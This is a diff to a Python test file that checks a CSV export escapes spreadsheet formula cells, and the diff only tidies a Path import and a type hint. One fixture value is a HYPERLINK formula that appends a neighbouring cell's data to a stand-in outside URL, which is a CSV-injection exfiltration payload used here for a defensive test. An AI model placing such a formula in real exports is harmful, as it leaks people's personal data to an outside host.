@@ -6,6 +6,7 @@ import csv
 import io
 from datetime import date
 from decimal import Decimal
+from pathlib import Path
 
 import pytest
 
@@ -41,7 +42,7 @@ def test_formula_cells_are_escaped_and_numbers_are_not(value: object, written: o
         assert csvout.unescape_cell(written) == value
 
 
-def test_registry_export_escapes_formula_cells_and_loads_back(db: Database, tmp_path: object) -> None:
+def test_registry_export_escapes_formula_cells_and_loads_back(db: Database, tmp_path: Path) -> None:
     evil = '=HYPERLINK("http://x.example/?"&C2,"查看")'
     with db.transaction() as s:
         s.add(
@@ -64,7 +65,7 @@ def test_registry_export_escapes_formula_cells_and_loads_back(db: Database, tmp_
     assert rows[0]["address"] == "'" + evil and rows[0]["name"] == "'@王" and rows[0]["phone"] == "'-1380000000"
     for cell in (c for r in rows for c in r.values()):
         assert not cell.startswith(csvout.FORMULA_STARTS), cell
-    path = tmp_path / "persons.csv"  # type: ignore[operator]
+    path = tmp_path / "persons.csv"
     path.write_text(out.getvalue(), encoding="utf-8")
     ((_, loaded),) = list(read_records(path))
     assert isinstance(loaded, dict) and loaded["address"] == evil and loaded["name"] == "@王"
@@ -72,8 +73,6 @@ def test_registry_export_escapes_formula_cells_and_loads_back(db: Database, tmp_
 
 def test_no_csv_is_written_past_the_shared_writer() -> None:
     """A new export that opens its own ``csv.writer`` would write formula cells unescaped."""
-    from pathlib import Path
-
     import onecity
 
     root = Path(onecity.__file__).parent
